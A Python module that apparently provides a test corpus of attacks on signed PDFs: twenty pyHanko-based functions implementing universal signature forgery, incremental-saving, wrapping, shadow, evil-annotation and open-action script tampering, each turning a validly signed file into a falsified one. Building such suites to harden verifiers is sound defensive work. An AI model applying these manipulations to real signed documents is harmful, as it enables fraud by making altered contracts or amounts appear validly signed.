"""
What attackers do to signed PDFs: each takes a validly signed and sealed file and lies with it.

The classes are those of the published attacks on PDF signatures: universal forgery, incremental
saving, wrapping, shadow (hide, replace, hide and replace), evil annotation, sneaky signature.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]
_RANGE = re.compile(rb"/ByteRange ?\[[\d ]+\]")


def _revised(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter, number: int = 0) -> Any:
    return writer.root["/Pages"]["/Kids"][number]


def _stream(writer: IncrementalPdfFileWriter, text: bytes) -> Any:
    return writer.add_object(generic.StreamObject(stream_data=text))


def _field(writer: IncrementalPdfFileWriter, number: int = 0) -> Any:
    return writer.root["/AcroForm"]["/Fields"][number].get_object()


# Universal signature forgery: the verifier is to forget its work


def range_gone(data: bytes) -> bytes:
    """No ByteRange."""
    return _RANGE.sub(lambda m: b"/ByteGone " + m[0][11:], data)


def range_of_nothing(data: bytes) -> bytes:
    """A ByteRange that covers nothing."""
    return _RANGE.sub(lambda m: b"/ByteRange [0 0 0 0]".ljust(len(m[0])), data)


def range_negative(data: bytes) -> bytes:
    """A ByteRange with negative edges."""
    return _RANGE.sub(lambda m: b"/ByteRange [0 -1 0 -1]".ljust(len(m[0])), data)


def range_null(data: bytes) -> bytes:
    """A ByteRange that is null."""
    return _RANGE.sub(lambda m: b"/ByteRange null".ljust(len(m[0])), data)


def contents_empty(data: bytes) -> bytes:
    """Contents without a CMS."""
    return re.sub(rb"/Contents ?<[0-9a-fA-F]+>", lambda m: b"/Contents <>".ljust(len(m[0])), data)


def contents_zero(data: bytes) -> bytes:
    """Contents of zeros."""
    return re.sub(rb"<[0-9a-fA-F]{4000,}>", lambda m: b"<" + b"0" * (len(m[0]) - 2) + b">", data)


def contents_padded(data: bytes) -> bytes:
    """Something hides in the hole, behind the CMS."""
    return re.sub(rb"0{40}>", b"0" * 20 + b"CAFE" * 5 + b">", data)


def subfilter_unknown(data: bytes) -> bytes:
    """A revision changes how the signature is to be read."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        signature = _field(writer)["/V"]
        signature["/SubFilter"] = pdf_name("/nothing.known")
        writer.update_container(signature)

    return _revised(data, change)


# Incremental saving


def page_replaced(data: bytes) -> bytes:
    """Another page content in a revision of its own."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page["/Contents"] = _stream(writer, b"BT ET")
        writer.update_container(page)

    return _revised(data, change)


def body_without_xref(data: bytes) -> bytes:
    """A new object without cross references: lenient readers rebuild the file with it."""
    return data + b"\n4 0 obj\n<</Type/Page/Contents 99 0 R>>\nendobj\n"


def body_without_trailer(data: bytes) -> bytes:
    """A new object and "end of file", no trailer."""
    return data + b"\n4 0 obj\n<</Length 5>>stream\nBT ET\nendstream endobj\nstartxref\n9\n%%EOF\n"


def catalog_replaced(data: bytes) -> bytes:
    """A new catalog without form: no signature is to be seen."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return _revised(data, change)


def orphan_added(data: bytes) -> bytes:
    """A revision with an object that nothing uses yet."""
    return _revised(data, lambda writer: _stream(writer, b"waiting for its day"))


# Wrapping


def wrapped(data: bytes) -> bytes:
    """The signed end is moved away, and something else stands in between."""
    match = list(_RANGE.finditer(data))[-1]
    _zero, first, second, rest = (int(edge) for edge in re.findall(rb"\d+", match[0]))
    hole = b"0" * 2000
    moved = f"/ByteRange [0 {first} {second + len(hole)} {rest}]".encode()
    lie = data[:second] + hole + data[second:]
    return lie[: match.start()] + moved.ljust(match.end() - match.start()) + lie[match.end() :]


# Shadow


def shadow_replace_font(data: bytes) -> bytes:
    """The font is another: the same text shows another amount."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        font = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Symbol"),
            }
        )
        fonts = (
            page["/Resources"]["/Font"]
            if "/Resources" in page
            else writer.root["/Pages"]["/Resources"]["/Font"]
        )
        for name in list(fonts):
            fonts[name] = writer.add_object(font)
        writer.update_container(fonts)

    return _revised(data, change)


def shadow_hide_by_value(data: bytes) -> bytes:
    """The appearance of the first signature is another; its value is untouched."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = _field(writer)
        box = generic.ArrayObject([generic.NumberObject(one) for one in (0, 0, 500, 500)])
        look = generic.StreamObject(
            {pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): box},
            stream_data=b"1 1 1 rg 0 0 500 500 re f",
        )
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
        writer.update_container(field)

    return _revised(data, change)


def shadow_pages_swapped(data: bytes) -> bytes:
    """The page tree shows the pages in another order."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        kids = pages["/Kids"]
        pages["/Kids"] = generic.ArrayObject(list(reversed([kids.raw_get(0), kids.raw_get(1)])))
        writer.update_container(pages)

    return _revised(data, change)


# Evil annotation, sneaky signature


def annotation_added(data: bytes) -> bytes:
    """A note that covers the text, as certifying signatures may allow."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        box = generic.ArrayObject([generic.NumberObject(one) for one in (50, 500, 550, 800)])
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): box,
                pdf_name("/Contents"): generic.TextStringObject("75.000.000"),
            }
        )
        page["/Annots"] = generic.ArrayObject([writer.add_object(note)])
        writer.update_container(page)

    return _revised(data, change)


def script_added(data: bytes) -> bytes:
    """A script that runs when the file is opened."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        script = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_name("/x")}
        writer.root["/OpenAction"] = generic.DictionaryObject(script)
        writer.update_root()

    return _revised(data, change)


def store_with_content(data: bytes) -> bytes:
    """A page change that hides beside a long-term store."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/DSS"] = generic.DictionaryObject({pdf_name("/Certs"): generic.ArrayObject()})
        writer.update_root()
        page = _page(writer)
        page["/Rotate"] = generic.NumberObject(180)
        writer.update_container(page)

    return _revised(data, change)


ATTACKS: list[Attack] = [
    range_gone,
    range_of_nothing,
    range_negative,
    range_null,
    contents_empty,
    contents_zero,
    contents_padded,
    subfilter_unknown,
    page_replaced,
    body_without_xref,
    body_without_trailer,
    catalog_replaced,
    orphan_added,
    wrapped,
    shadow_replace_font,
    shadow_hide_by_value,
    shadow_pages_swapped,
    annotation_added,
    script_added,
    store_with_content,
]
